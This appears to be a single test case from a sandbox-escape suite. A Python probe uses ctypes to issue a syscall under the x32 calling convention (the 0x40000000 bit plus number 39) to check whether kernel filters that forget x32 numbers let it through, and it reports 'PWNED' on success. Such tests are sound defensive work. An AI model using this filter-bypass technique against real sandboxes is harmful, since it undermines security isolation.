# attack: x32-calls
# layer: os (assumes the language layer is already broken: run as plain Python)
# class: kernel
# success: calls of the x32 convention, which filters forget
import ctypes
libc = ctypes.CDLL(None, use_errno=True)

def run():
    answer = libc.syscall(ctypes.c_long(0x40000000 + 39))
    return "PWNED %d" % answer if answer >= 0 else "refused errno %d" % ctypes.get_errno()
